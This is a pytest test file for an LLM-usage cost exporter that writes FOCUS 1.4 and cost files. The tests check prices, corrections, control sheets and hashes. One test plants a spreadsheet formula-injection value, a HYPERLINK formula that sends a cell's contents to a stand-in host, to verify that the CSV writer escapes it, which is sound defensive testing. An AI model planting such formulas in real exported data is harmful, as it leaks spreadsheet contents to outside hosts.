"""Exports: FOCUS 1.4 and costs, in Parquet and CSV, equal to the warehouse to the last digit, with a control sheet.

gpt-4o-mini costs 0.15 in and 0.60 out per million tokens: 1,000 in and 100 out are 0.00015 + 0.00006 = 0.00021 USD.
"""

from __future__ import annotations

import csv
import hashlib
import json
import shutil
from decimal import Decimal
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from etl.errors import IntegrityError
from etl.export_files import require_same
from etl.spreadsheets import safe
from tests import focus_rules
from tests.nights import NOON, Ran, chat, costroll, write_jsonl

DAY = 24 * 60 * 60
WAREHOUSE = Path("warehouse")
OUT = Path("out")
CACHED = {"prompt_tokens_details": {"cached_tokens": 400}}


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Work in a folder of its own, with the warehouse in it."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("COSTROLL_WAREHOUSE", str(WAREHOUSE))


def call(request_id: str, created: int = NOON, prompt: int = 1000, completion: int = 100, **who: Any) -> dict[str, Any]:
    response = chat(f"chat-{request_id}", created, prompt, completion)
    response["usage"] |= who.pop("usage", {})
    response |= {name: who.pop(name) for name in ("model", "service_tier") if name in who}
    return {"timestamp": created, "request_id": request_id, "status": 200, "response": response} | who


def night(*records: dict[str, Any], account: str = "acme", code: int = 0) -> None:
    number = len(list(Path().glob("*.jsonl")))
    ran = costroll("run", "--account", account, write_jsonl(Path(f"{number}.jsonl"), records))
    assert ran.code == code, ran


def export(kind: str, month: str, *arguments: str | Path, code: int = 0) -> Ran:
    ran = costroll("export", kind, "--month", month, "--out", OUT, *arguments)
    assert ran.code == code, ran
    return ran


def rows(name: str) -> list[dict[str, str]]:
    with (OUT / name).open(newline="") as file:
        return list(csv.DictReader(file))


def control(name: str) -> dict[tuple[str, str], tuple[str, str, str]]:
    return {
        (row["section"], row["item"]): (row["warehouse"], row["file"], row["difference"])
        for row in rows(f"{name}.control.csv")
    }


def _june_and_july() -> None:
    """June, closed: a cached call and a batch. July: one call, and one of June that came late.

    June  600 x 0.15 + 400 x 0.075 + 100 x 0.60 = 90 + 30 + 60 = 180 millionths = 0.00018, and in batch, at half the
          rates, 1,000 x 0.075 + 100 x 0.30 = 0.000105: together 0.000285
    July  0.00021 of its own, and the late call of June: 0.00021 as a correction
    """
    night(call("a", usage=CACHED, api_key_id="k1", project="shop"), call("b", NOON + DAY, service_tier="batch"))
    assert costroll("close", "2026-06").code == 0
    night(call("c", NOON + 30 * DAY, api_key_id="k2"), call("late", NOON + 2 * DAY, api_key_id="k1"))


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(tmp_path_factory.mktemp("made"))
        patch.setenv("COSTROLL_WAREHOUSE", str(WAREHOUSE))
        _june_and_july()
        return WAREHOUSE.absolute()


@pytest.fixture
def june_and_july(made: Path) -> None:
    shutil.copytree(made, WAREHOUSE, symlinks=True)


@pytest.mark.parametrize("month", ["2026-06", "2026-07"])
def test_a_month_breaks_no_rule_of_focus(month: str, june_and_july: None) -> None:
    export("focus", month)
    assert focus_rules.offences(OUT / f"focus-{month}.parquet") == []
    assert focus_rules.offences(OUT / f"focus-{month}.csv") == []


def test_the_rules_find_what_breaks_them(june_and_july: None) -> None:
    export("focus", "2026-06", "--format", "parquet")
    good = pl.read_parquet(OUT / "focus-2026-06.parquet")
    bad = good.with_columns(
        ContractedCost=pl.col("ContractedCost") * 2,
        BillingAccountId=pl.lit(None, pl.String),
        ChargeClass=pl.lit("Correction"),
        PricingUnit=pl.lit("tokens"),
        SkuPriceDetails=pl.lit('{"ModelId": "m"}'),
        ProviderName=pl.lit("OpenAI"),
    ).drop("SkuMeter")
    bad = bad.with_columns(SkuMeter=pl.lit("Tokens"))
    bad.write_parquet(OUT / "bad.parquet")
    found = "\n".join(focus_rules.offences(OUT / "bad.parquet"))
    for said in (
        "ContractedCost-C-011: 5 rows", "BillingAccountId: not null", "ChargeClass-C-003/004", "UnitFormat-A-024",
        "SkuPriceDetails-C-017", "column ProviderName is no more", "custom columns stand behind",
    ):  # fmt: skip
        assert said in found


def test_a_row_a_meter_with_its_real_quantity_and_unit_price(june_and_july: None) -> None:
    export("focus", "2026-06", "--format", "csv")
    found = {
        row["SkuPriceId"]: (
            row["ConsumedQuantity"], row["ConsumedUnit"], row["PricingQuantity"], row["PricingUnit"],
            Decimal(row["ContractedUnitPrice"]), Decimal(row["ContractedCost"]),
        )
        for row in rows("focus-2026-06.csv")
    }  # fmt: skip
    sku = "openai/gpt-4o-mini-2024-07-18"
    million = "1000000 Tokens"
    assert found == {
        f"{sku}/input/standard/uncached": (
            "600.000000", "Tokens", "0.000600", million, Decimal("0.15"), Decimal("0.00009")),
        f"{sku}/input/standard/cached": (
            "400.000000", "Tokens", "0.000400", million, Decimal("0.075"), Decimal("0.00003")),
        f"{sku}/output/standard/not_applicable": (
            "100.000000", "Tokens", "0.000100", million, Decimal("0.6"), Decimal("0.00006")),
        f"{sku}/input/batch/uncached": (
            "1000.000000", "Tokens", "0.001000", million, Decimal("0.075"), Decimal("0.000075")),
        f"{sku}/output/batch/not_applicable": (
            "100.000000", "Tokens", "0.000100", million, Decimal("0.3"), Decimal("0.00003")),
    }  # fmt: skip


def test_model_tier_and_cache_stand_in_the_details_of_the_price_and_in_columns_of_ours(june_and_july: None) -> None:
    export("focus", "2026-06", "--format", "csv")
    [cached] = [row for row in rows("focus-2026-06.csv") if row["x_CachingStatus"] == "cached"]
    assert json.loads(cached["SkuPriceDetails"]) == {
        "x_ModelId": "gpt-4o-mini-2024-07-18",
        "x_ServiceTier": "standard",
        "x_TokenCacheAction": "Read",
        "x_TokenDirection": "Input",
    }
    assert (cached["SkuId"], cached["SkuMeter"]) == ("openai/gpt-4o-mini-2024-07-18/input", "Input Tokens")
    assert (cached["SubAccountId"], cached["BillingAccountId"], cached["InvoiceIssuerName"]) == (
        "shop",
        "acme",
        "OpenAI",
    )
    assert (cached["x_ServiceTier"], cached["x_RateVersion"], cached["x_PriceStatus"]) == ("standard", "1", "priced")


def test_what_came_late_is_a_correction_in_the_month_of_booking_with_its_own_day(june_and_july: None) -> None:
    export("focus", "2026-07", "--format", "csv")
    late = [row for row in rows("focus-2026-07.csv") if row["ChargeClass"]]
    assert {
        (row["ChargeClass"], row["BillingPeriodStart"], row["BillingPeriodEnd"], row["ChargePeriodStart"])
        for row in late
    } == {("Correction", "2026-07-01T00:00:00Z", "2026-08-01T00:00:00Z", "2026-06-03T00:00:00Z")}
    assert sum(Decimal(row["BilledCost"]) for row in late) == Decimal("0.00021")


def test_under_a_contract_list_and_contracted_differ_and_billed_is_contracted() -> None:
    night(call("a"))
    costroll("rates", "import", "--percent-off", "20", "--book", "acme-1", "--account", "acme", "--apply")
    night(call("b", NOON + DAY))
    export("focus", "2026-06")
    found = {
        (row["ChargePeriodStart"][:10], row["SkuMeter"]): tuple(
            Decimal(row[name])
            for name in ("ListUnitPrice", "ListCost", "ContractedUnitPrice", "ContractedCost", "BilledCost")
        )
        for row in rows("focus-2026-06.csv")
    }  # fmt: skip
    # 0.15 - 20 % = 0.12: 1,000 x 0.12 = 0.00012
    assert found["2026-06-02", "Input Tokens"] == tuple(map(Decimal, ("0.15", "0.00015", "0.12", "0.00012", "0.00012")))
    assert found["2026-06-01", "Input Tokens"] == tuple(map(Decimal, ("0.15", "0.00015", "0.15", "0.00015", "0.00015")))
    assert focus_rules.offences(OUT / "focus-2026-06.parquet") == []


def test_beside_the_providers_own_dataset_nothing_is_billed_twice(june_and_july: None) -> None:
    export("focus", "2026-06", "--billed", "zero", "--format", "csv")
    found = rows("focus-2026-06.csv")
    assert {(Decimal(row["BilledCost"]), Decimal(row["EffectiveCost"])) for row in found} == {(Decimal(0), Decimal(0))}
    assert sum(Decimal(row["ContractedCost"]) for row in found) == Decimal("0.000285")


def test_the_control_sheet_has_sums_counts_and_hashes(june_and_july: None) -> None:
    printed = export("focus", "2026-06").out.splitlines()
    sheet = control("focus-2026-06")
    assert sheet["sums", "cost_usd"] == ("0.000285000000", "0.000285000000", "0.000000000000")
    assert sheet["exported", "2200 tokens in 5 rollup rows, priced"][0] == "0.000285000000"
    assert sheet["left out", "2 requests in 2 rollup rows, not_charged"][0] == "0.000000000000"
    assert sheet["origin", "month is closed"][0] == "yes"
    for form, line in zip(("parquet", "csv"), printed, strict=False):
        name = f"focus-2026-06.{form}"
        digest = hashlib.sha256((OUT / name).read_bytes()).hexdigest()
        assert sheet["files", f"SHA-256 of {name}"][1] == digest
        assert line == f"{digest}  {OUT / name}"  # as sha256sum prints it
    assert printed[-1] == "5 rows, 0.000285 USD, as in the warehouse"


def test_the_same_export_has_the_same_bytes(june_and_july: None) -> None:
    assert export("focus", "2026-07").out == export("focus", "2026-07").out


def test_an_open_month_is_said_to_be_open(june_and_july: None) -> None:
    assert "2026-07 is not closed" in export("costs", "2026-07").err
    assert "is not closed" not in export("costs", "2026-06").err


def test_by_key_and_tag_a_month_is_told_apart_except_what_was_corrected(june_and_july: None) -> None:
    Path("keys.csv").write_text("api_key,team,cost_centre\nk1,search,100\n")
    told = export("focus", "2026-06", "--by", "api_key", "--mapping", "keys.csv").err
    # The late call came on another day, so every cell of June is whole.
    found = {(row["x_AttributedTo"], row["Tags"], row["x_AttributionNote"]) for row in rows("focus-2026-06.csv")}
    assert found == {
        ("k1", '{"team": "search", "cost_centre": "100"}', ""), ("", "", "records name no api_key")
    }  # fmt: skip
    assert "0.000105 USD cannot be told apart: records name no api_key" in told
    assert focus_rules.offences(OUT / "focus-2026-06.parquet") == []

    export("costs", "2026-07", "--by", "team", "--mapping", "keys.csv")
    sums: dict[tuple[str, str], Decimal] = {}
    for row in rows("costs-2026-07.csv"):
        where = (row["key"], row["note"])
        sums[where] = sums.get(where, Decimal(0)) + Decimal(row["cost_usd"])
    assert sums == {
        ("", "not in the mapping"): Decimal("0.00021"),
        ("", "booked with corrections"): Decimal("0.00021"),
    }


def test_what_has_no_price_is_left_out_of_focus_said_and_in_the_costs() -> None:
    night(call("a"), call("b", model="my-own"), code=3)
    told = export("focus", "2026-06").err
    assert "1,100 tokens have no price (unpriced_unknown_model): costroll report unpriced" in told
    assert control("focus-2026-06")["left out", "1100 tokens in 2 rollup rows, unpriced_unknown_model"][0] == ""
    export("costs", "2026-06")
    assert [row["cost_usd"] for row in rows("costs-2026-06.csv") if row["model"] == "my-own"] == ["", ""]
    shutil.rmtree(OUT)
    refused = export("focus", "2026-06", "--strict", code=9)
    assert "1,100 tokens (unpriced_unknown_model) have no price; nothing was written" in refused.err
    assert not OUT.exists()


def test_a_month_in_which_nothing_has_a_price_is_a_file_without_rows() -> None:
    night(call("a", model="my-own"), code=3)
    assert export("focus", "2026-06").out.splitlines()[-1] == "0 rows, 0.00 USD, as in the warehouse"
    assert rows("focus-2026-06.csv") == []
    assert (OUT / "focus-2026-06.csv").read_text().startswith("BilledCost,BillingAccountId,")
    assert pl.read_parquet(OUT / "focus-2026-06.parquet").height == 0
    assert focus_rules.offences(OUT / "focus-2026-06.csv") == []


def test_focus_wants_an_account_in_each_row() -> None:
    assert costroll("run", write_jsonl(Path("a.jsonl"), [chat("a")])).code == 0
    refused = export("focus", "2026-06", code=2)
    assert "2 of 2 rows name no account" in refused.err
    assert "--billing-account ID" in refused.err
    assert list(OUT.iterdir()) == []  # no half of a file, hidden or not
    export("focus", "2026-06", "--billing-account", "acme")
    assert {row["BillingAccountId"] for row in rows("focus-2026-06.csv")} == {"acme"}


def test_a_month_without_anything_names_the_months_there_are(june_and_july: None) -> None:
    assert "nothing is booked in 2026-05; the months are 2026-06, 2026-07" in export("costs", "2026-05", code=2).err


def test_a_formula_in_a_name_is_text_in_the_csv_and_untouched_in_parquet() -> None:
    formula = '=HYPERLINK("http://x/?"&A1)'
    night(call("a", project=formula), call("b", NOON + DAY, project="-2+3"))
    told = export("costs", "2026-06").err
    assert {row["project_id"] for row in rows("costs-2026-06.csv")} == {f"'{formula}", "'-2+3"}
    assert set(pl.read_parquet(OUT / "costs-2026-06.parquet")["project_id"]) == {formula, "-2+3"}
    assert "4 cells of the CSV got an apostrophe" in told
    assert control("costs-2026-06")["origin", "text cells with an apostrophe in the CSV"][0] == "4"
    printed = costroll("report", "--by", "project", "--format", "csv").out
    assert "\n'-2+3,1,1000,100,0.000210000000" in printed


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\t=1", "\r=1", "\n=1", "＝1"])
def test_what_a_spreadsheet_takes_for_a_formula_gets_an_apostrophe(text: str) -> None:
    assert safe(text) == f"'{text}"


@pytest.mark.parametrize("value", ["a=1", "", "1", " x", None, -1, Decimal("-0.5")])
def test_other_text_and_numbers_stay(value: object) -> None:
    assert safe(value) is value


def test_a_file_that_is_not_what_was_written_is_found_when_it_is_read_back(june_and_july: None) -> None:
    export("costs", "2026-06")
    sums = {"cost_usd": Decimal("0.000285"), "list_cost_usd": Decimal("0.000285")}
    for form in ("parquet", "csv"):
        require_same(OUT / f"costs-2026-06.{form}", 5, sums)
        with pytest.raises(IntegrityError, match=r"5 rows and 0\.000285"):
            require_same(OUT / f"costs-2026-06.{form}", 5, sums | {"cost_usd": Decimal("0.000286")})
        with pytest.raises(IntegrityError, match="not 4 and"):
            require_same(OUT / f"costs-2026-06.{form}", 4, sums)


def test_two_list_prices_in_one_row_under_a_contract() -> None:
    """The list falls from 10 to 2 at noon, the contract stays at 1. A million before noon, then one of m or two of n.

    10 + 2 = 12 for 2 million is 6 a million; 10 + 4 = 14 for 3 million has no six decimals. The cost is exact anyway.
    """
    head = (
        "provider,model,tier,meter,caching_status,context_over_tokens,effective_from,effective_to,rate_usd_per_million"
    )
    noon, tail = "2026-06-01T12:00:00Z", "published,high,a price page"
    row = "openai,{model},standard,input,uncached,0,{since},{until},{rate}," + tail
    prices = [("", noon, 10), (noon, "", 2)]
    listed = [row.format(model=m, since=since, until=until, rate=rate) for m in "mn" for since, until, rate in prices]
    booked = [row.format(model=m, since="", until="", rate=1) for m in "mn"]
    for name, lines in (("list", listed), ("book", booked)):
        Path(f"{name}.csv").write_text("\n".join([f"{head},status,confidence,source", *lines, ""]))
    night(call("other", NOON - DAY))
    assert costroll("rates", "import", "list.csv", "--apply").code == 0
    assert costroll("rates", "import", "book.csv", "--book", "acme-1", "--account", "acme", "--apply").code == 0
    calls = [("m", -3600), ("m", 3600), ("n", -3600), ("n", 3600), ("n", 3601)]
    night(*(call(f"{model}{at}", NOON + at, 1_000_000, 0, model=model) for model, at in calls))
    export("focus", "2026-06", "--format", "csv")
    found = {
        row["x_ModelId"]: (Decimal(row["ContractedUnitPrice"]), Decimal(row["ListCost"]), row["ListUnitPrice"])
        for row in rows("focus-2026-06.csv")
    }
    assert found["m"] == (Decimal(1), Decimal(12), "6.000000000000")
    assert found["n"] == (Decimal(1), Decimal(14), "")
